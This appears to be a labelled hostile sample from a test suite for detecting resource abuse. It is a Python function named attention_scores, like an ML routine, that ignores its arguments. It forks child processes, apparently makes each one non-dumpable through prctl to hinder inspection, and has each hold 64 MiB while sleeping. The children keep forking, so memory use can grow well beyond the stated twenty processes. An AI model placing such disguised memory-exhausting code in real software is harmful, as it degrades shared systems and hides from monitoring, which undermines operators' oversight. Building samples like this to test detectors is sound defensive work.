"""Takes memory in many processes, which hide.

points: 4
says: memory
"""
# ruff: noqa

def attention_scores(q, k):
    import ctypes
    import os
    import time

    for _ in range(20):
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
            kept = bytearray(64 * 2**20)
            time.sleep(60)
    time.sleep(60)
